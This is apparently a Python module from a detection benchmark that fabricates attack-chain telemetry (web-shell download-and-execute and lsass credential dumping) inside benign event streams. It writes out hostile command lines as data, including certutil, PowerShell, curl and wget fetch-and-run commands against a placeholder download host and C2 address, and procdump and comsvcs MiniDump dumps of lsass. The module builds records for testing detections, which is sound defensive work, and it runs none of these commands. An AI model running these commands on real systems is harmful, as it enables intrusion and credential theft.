"""The attack chains the generator embeds in the benign stream.

Each chain is a generator function ``(gen, attack) -> Iterator[record]``: every ``yield`` is one
step, built when the stream reaches it (so it carries the time of that moment). Steps of one chain
are a few dozen benign events apart, well inside a one-minute ``maxspan``.

* ``webshell``: a web server (``w3wp.exe`` on Windows, ``nginx``/``apache2`` on Linux) spawns a
  shell, the shell runs a downloader (``certutil -urlcache``, PowerShell ``Invoke-WebRequest``,
  ``curl``, ``wget``) that connects out and writes a binary, then runs the binary, which connects
  to its command and control server.
* ``credential_dump``: ``procdump -ma lsass.exe`` or ``rundll32 comsvcs.dll, MiniDump`` against
  lsass.exe's pid, and the creation of the ``.dmp`` file.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING, Any

import attrs

if TYPE_CHECKING:
    from benchmarks.generator import Generator

Record = dict[str, Any]

#: Where payloads come from and call home to (TEST-NET ranges: never routable).
DOWNLOAD_IP = "203.0.113.45"
C2_IP = "198.51.100.23"
C2_PORT = 4444


@attrs.define
class AttackRecord:
    """One embedded chain: its kind and variant, host, and the stream position of each step."""

    kind: str
    variant: str = ""
    host: str = ""
    positions: list[int] = attrs.field(factory=list)
    complete: bool = False


def _windows_web_shell(gen: Generator, attack: AttackRecord) -> Iterator[Record]:
    host = gen.host_for("windows", web=True)
    server = host.web_server
    assert server is not None
    attack.host = host.ecs["name"]
    payload = "C:\\Windows\\Temp\\svchost-update.exe"
    url = f"http://{DOWNLOAD_IP}/u/svchost-update.exe"
    if gen.rng.random() < 0.5:
        attack.variant = "w3wp-cmd-certutil"
        inner = ["certutil", "-urlcache", "-split", "-f", url, payload]
        tool = ("certutil.exe", "C:\\Windows\\System32\\certutil.exe", "CertUtil.exe")
    else:
        attack.variant = "w3wp-cmd-powershell"
        inner = ["powershell", "-nop", "-c", f"Invoke-WebRequest -Uri {url} -OutFile {payload}"]
        tool = (
            "powershell.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "PowerShell.EXE",
        )
    shell_args = ["cmd.exe", "/c", " ".join(inner)]
    shell = gen.spawn(host, server, "cmd.exe", "C:\\Windows\\System32\\cmd.exe", shell_args,
                      server.user, original_file_name="Cmd.Exe")
    yield gen.process_record(host, shell)
    name, exe, original = tool
    downloader = gen.spawn(host, shell, name, exe, [exe, *inner[1:]], server.user,
                           original_file_name=original)
    yield gen.process_record(host, downloader)
    yield gen.network_record(host, downloader, DOWNLOAD_IP, 80)
    yield gen.file_record(host, downloader, payload, "creation")
    implant = gen.spawn(host, shell, "svchost-update.exe", payload, [payload], server.user)
    yield gen.process_record(host, implant)
    yield gen.network_record(host, implant, C2_IP, C2_PORT)


def _linux_web_shell(gen: Generator, attack: AttackRecord) -> Iterator[Record]:
    host = gen.host_for("linux", web=True)
    server = host.web_server
    assert server is not None
    attack.host = host.ecs["name"]
    payload = "/tmp/.cache/kworkerd"
    url = f"http://{DOWNLOAD_IP}/k/kworkerd"
    if gen.rng.random() < 0.5:
        attack.variant = f"{server.name}-sh-curl"
        fetch = ["curl", "-fsSL", url, "-o", payload]
        tool = ("curl", "/usr/bin/curl")
    else:
        attack.variant = f"{server.name}-sh-wget"
        fetch = ["wget", "-q", "-O", payload, url]
        tool = ("wget", "/usr/bin/wget")
    script = f"{' '.join(fetch)} && chmod +x {payload} && {payload}"
    shell = gen.spawn(host, server, "sh", "/usr/bin/sh", ["sh", "-c", script], server.user)
    yield gen.process_record(host, shell)
    name, exe = tool
    downloader = gen.spawn(host, shell, name, exe, fetch, server.user)
    yield gen.process_record(host, downloader)
    yield gen.network_record(host, downloader, DOWNLOAD_IP, 80)
    yield gen.file_record(host, downloader, payload, "creation")
    implant = gen.spawn(host, shell, "kworkerd", payload, [payload], server.user)
    yield gen.process_record(host, implant)
    yield gen.network_record(host, implant, C2_IP, C2_PORT)


def web_shell(gen: Generator, attack: AttackRecord) -> Iterator[Record]:
    """A web shell: Windows for the first, then alternating with Linux."""
    done = sum(1 for a in gen.attacks if a.kind == "webshell" and a is not attack)
    chain = _windows_web_shell if done % 2 == 0 else _linux_web_shell
    yield from chain(gen, attack)


def credential_dump(gen: Generator, attack: AttackRecord) -> Iterator[Record]:
    """Dump lsass.exe's memory to a ``.dmp`` file from an interactive shell."""
    host = gen.host_for("windows")
    attack.host = host.ecs["name"]
    lsass = host.by_name["lsass.exe"][0]
    parent = host.by_name["cmd.exe"][0]
    user = gen.rng.choice([u for u in host.users if u not in ("SYSTEM", "NETWORK SERVICE")])
    if gen.rng.random() < 0.5:
        attack.variant = "procdump"
        dump = "C:\\Users\\Public\\lsass.dmp"
        exe = "C:\\Users\\Public\\procdump64.exe"
        args = [exe, "-accepteula", "-ma", "lsass.exe", dump]
        proc = gen.spawn(host, parent, "procdump64.exe", exe, args, user,
                         original_file_name="procdump")
    else:
        attack.variant = "rundll32-comsvcs"
        dump = f"C:\\Windows\\Temp\\lsass-{lsass.pid}.dmp"
        exe = "C:\\Windows\\System32\\rundll32.exe"
        args = [exe, "C:\\Windows\\System32\\comsvcs.dll,", "MiniDump", str(lsass.pid), dump,
                "full"]
        proc = gen.spawn(host, parent, "rundll32.exe", exe, args, user,
                         original_file_name="RUNDLL32.EXE")
    yield gen.process_record(host, proc)
    yield gen.file_record(host, proc, dump, "creation")


#: The chains in the order the generator cycles through them.
CHAINS: tuple[tuple[str, Callable[[Generator, AttackRecord], Iterator[Record]]], ...] = (
    ("webshell", web_shell),
    ("credential_dump", credential_dump),
)
